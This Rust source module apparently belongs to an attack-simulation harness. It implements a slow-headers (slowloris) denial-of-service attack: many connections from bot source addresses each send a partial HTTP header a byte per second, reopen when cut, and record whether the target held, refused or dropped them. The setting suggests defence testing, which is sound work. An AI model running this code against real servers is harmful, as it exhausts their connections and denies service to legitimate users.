//! The slow-headers attack: many connections that send a request's header a byte each second.
//!
//! A connection's sample tells what became of it: `TimedOut` if it was held until the attacker let
//! go, `Refused` if it was answered, `ConnectionFailed` if it was closed or could not be opened.

use std::cell::Cell;
use std::net::Ipv4Addr;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep_until, timeout, timeout_at};

use super::Ground;
use super::caller::connect;
use crate::plan::{PlannedAssault, PlannedRung};
use crate::recording::{Outcome, Sample, Who};
use crate::scenario::Tactic;

/// How often a byte is sent.
const DRIBBLE: Duration = Duration::from_secs(1);

/// How long opening a connection may take.
const OPENING: Duration = Duration::from_secs(2);

/// A connection that was cut is opened again after a second, so many times at most.
const REOPENINGS_MAX: usize = 4;

/// Holds all connections of a rung until the assault ends.
pub(super) async fn hold(
    ground: &Arc<Ground>,
    assault: &PlannedAssault,
    rung: &PlannedRung,
) -> Vec<Sample> {
    let end = ground.instant(assault.to_ms);
    let held = Rc::new(Cell::new(0_u32));
    let mut connections = JoinSet::new();
    for shot in &rung.shots {
        let source = rung.sources[usize::from(shot.bot)];
        let bot = u32::from(shot.bot);
        let opens = ground.instant(shot.at_ms);
        let phase = assault.phase as u16;
        let ground = Arc::clone(ground);
        let held = Rc::clone(&held);
        connections.spawn_local(async move {
            let mut samples = Vec::new();
            let mut next = opens;
            for _ in 0..=REOPENINGS_MAX {
                sleep_until(next.min(end)).await;
                if Instant::now() >= end {
                    break;
                }
                let begun = Instant::now();
                let start_ms = ground.now_ms();
                ground.tally.attack_request(start_ms);
                let outcome = dribble(&ground, source, end, &held).await;
                samples.push(Sample {
                    phase,
                    who: Who::Attacker(Tactic::SlowHeaders),
                    visitor: bot,
                    start_ms,
                    latency_micros: begun.elapsed().as_micros() as u32,
                    requests: 1,
                    outcome,
                });
                next = Instant::now() + DRIBBLE;
            }
            samples
        });
    }
    let mut samples = Vec::new();
    while let Some(ended) = connections.join_next().await {
        samples.extend(ended.unwrap_or_default());
    }
    samples
}

/// One connection, from its opening until it is cut or the attack ends.
async fn dribble(ground: &Ground, source: Ipv4Addr, end: Instant, held: &Cell<u32>) -> Outcome {
    let Ok(Ok(mut stream)) = timeout(OPENING, connect(ground.target, source)).await else {
        return Outcome::ConnectionFailed;
    };
    let begin = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Wait: ", ground.host);
    if stream.write_all(begin.as_bytes()).await.is_err() {
        return Outcome::ConnectionFailed;
    }
    held.set(held.get() + 1);
    let mut next = Instant::now() + DRIBBLE;
    let mut answer = [0_u8; 64];
    let outcome = loop {
        ground.tally.slow_connections(ground.now_ms(), held.get());
        if let Ok(read) = timeout_at(next.min(end), stream.read(&mut answer)).await {
            break match read {
                Ok(length) if length > 0 => {
                    Outcome::Refused { status: status_of(&answer[..length]) }
                }
                _ => Outcome::ConnectionFailed,
            };
        }
        if Instant::now() >= end {
            break Outcome::TimedOut;
        }
        if stream.write_all(b"a").await.is_err() {
            break Outcome::ConnectionFailed;
        }
        next += DRIBBLE;
    };
    held.set(held.get() - 1);
    outcome
}

/// The status in the first bytes of a response; zero if it is none.
fn status_of(answer: &[u8]) -> u16 {
    std::str::from_utf8(answer)
        .ok()
        .and_then(|text| text.strip_prefix("HTTP/1.1 ")?.get(..3)?.parse().ok())
        .unwrap_or(0)
}
